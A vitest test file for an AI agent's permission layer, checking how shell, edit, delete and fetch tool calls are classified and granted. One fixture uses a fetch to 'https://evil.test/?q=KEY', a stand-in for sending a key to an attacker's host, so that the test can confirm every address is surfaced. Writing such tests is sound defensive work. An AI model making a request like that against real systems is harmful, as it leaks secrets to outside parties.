import { expect, test } from 'vitest';

import type { CallFacts } from '../../kernel/call.ts';
import { previewOf } from '../../kernel/content.ts';
import type { SessionId } from '../../kernel/ids.ts';
import { permissionOf } from './permission-call.ts';
import { commandLine } from './permission-meaning.ts';

const context = { session: 'ses_1' as SessionId, agent: 'other', cwd: '/work', roots: ['/work'] };

async function meant(toolCall: Readonly<Record<string, unknown>>) {
  const described: unknown[] = [];
  const describe = async (tool: string, args: unknown): Promise<CallFacts> => {
    described.push([tool, args]);
    return { access: 'write', grants: [`${tool}(…)`], repeat: 'safe', order: 'parallel', runs: 'tool' };
  };
  const { call } = await permissionOf(
    { toolCall: { toolCallId: 'c', ...toolCall }, options: [] },
    describe,
    context,
  );
  return { tool: call.tool, args: JSON.parse(previewOf(call.args)) as unknown, described };
}

test('[S3] a look that Rondo would run itself is the agent’s own run, by the programs of the repository', async () => {
  const describe = async (): Promise<CallFacts> => ({
    access: 'execute',
    segments: [
      { text: 'git status', effect: 'look', free: true, raisedBy: 'core.fsmonitor' },
      { text: 'ls', effect: 'look', free: true },
    ],
    repeat: 'safe',
    order: 'parallel',
    runs: 'tool',
  });
  const toolCall = { toolCallId: 'c', kind: 'execute', rawInput: { command: 'git status; ls' } };
  const { call } = await permissionOf({ toolCall, options: [] }, describe, context);
  expect(call.facts.segments).toEqual([
    { text: 'git status', effect: 'build', raisedBy: 'core.fsmonitor' },
    { text: 'ls', effect: 'look' },
  ]);
});

test.for([
  {
    name: 'a command',
    toolCall: { kind: 'execute', rawInput: { command: 'make test', dir_path: 'sub' } },
    tool: 'shell',
    described: [['shell', { command: 'make test', cwd: 'sub' }]],
  },
  {
    name: 'a command in words',
    toolCall: { kind: 'execute', rawInput: { command: ['bash', '-lc', 'ls | wc'] } },
    tool: 'shell',
    described: [['shell', { command: 'ls | wc' }]],
  },
  {
    name: 'a command without text',
    toolCall: { kind: 'execute', title: 'rm x' },
    tool: 'shell',
    described: [],
  },
  {
    name: 'a new file',
    toolCall: { kind: 'edit', content: [{ type: 'diff', path: '/place/a', oldText: null, newText: 'x' }] },
    tool: 'write',
    described: [['write', { path: '/place/a', content: '' }]],
  },
  {
    name: 'a changed file, known only by its diff',
    toolCall: { content: [{ type: 'diff', path: '/place/a', oldText: 'y', newText: 'x' }] },
    tool: 'edit',
    described: [['edit', { path: '/place/a', edits: [{ old_text: 'x', new_text: '' }] }]],
  },
  {
    name: 'a removal',
    toolCall: { kind: 'delete', locations: [{ path: '/place/a' }, { path: '/place/b' }] },
    tool: 'delete',
    described: [
      ['delete', { path: '/place/a' }],
      ['delete', { path: '/place/b' }],
    ],
  },
  {
    name: 'an address',
    toolCall: { kind: 'fetch', title: 'Fetching https://example.org/x?' },
    tool: 'web_fetch',
    described: [['web_fetch', { url: 'https://example.org/x?' }]],
  },
  {
    name: 'each of several addresses',
    toolCall: {
      kind: 'fetch',
      title: 'Fetching https://docs.test/',
      rawInput: { uri: 'https://evil.test/?q=KEY', prompt: 'Read https://docs.test/guide' },
    },
    tool: 'web_fetch',
    described: [
      ['web_fetch', { url: 'https://evil.test/?q=KEY' }],
      ['web_fetch', { url: 'https://docs.test/guide' }],
    ],
  },
  {
    name: 'something else',
    toolCall: { kind: 'other', title: 'ticket (MCP)' },
    tool: 'other:ticket',
    described: [],
  },
])('[C89] $name is judged as $tool', async ({ toolCall, tool, described }) => {
  expect(await meant(toolCall)).toMatchObject({ tool, described });
});

test('a request is known again by what it asks, not by the id of its call', async () => {
  const ask = async (toolCallId: string, command: string) => {
    const toolCall = { toolCallId, kind: 'execute', rawInput: { command } };
    const facts: CallFacts = { access: 'execute', repeat: 'never', order: 'exclusive', runs: 'tool' };
    const { key } = await permissionOf({ toolCall, options: [] }, async () => facts, context);
    return key;
  };

  expect(await ask('1', 'ls')).toBe(await ask('2', 'ls'));
  expect(await ask('1', 'ls')).not.toBe(await ask('1', 'ls -l'));
});

test('words become a line that a shell reads as those words', () => {
  expect(commandLine(['git', 'commit', '-m', "it's done"])).toBe(`git commit -m 'it'\\''s done'`);
});

test('[S9] [S6] for an agent that runs its own commands nothing is free, and of an unknown command nothing can be granted', async () => {
  const describe = async (): Promise<CallFacts> => ({
    access: 'execute',
    segments: [
      { text: 'ls', effect: 'look', free: true },
      { text: 'wc', effect: 'look', mild: true },
    ],
    grants: ['shell(ls) [look]'],
    repeat: 'safe',
    order: 'parallel',
    runs: 'tool',
  });
  const asked = async (toolCall: Readonly<Record<string, unknown>>) =>
    (
      await permissionOf(
        { toolCall: { toolCallId: 'c', kind: 'execute', ...toolCall }, options: [] },
        describe,
        context,
      )
    ).call.facts;
  expect((await asked({ rawInput: { command: 'ls | wc' } })).segments).toEqual([
    { text: 'ls', effect: 'look' },
    { text: 'wc', effect: 'look' },
  ]);
  expect((await asked({ title: 'rm x' })).grants).toEqual([]);
});
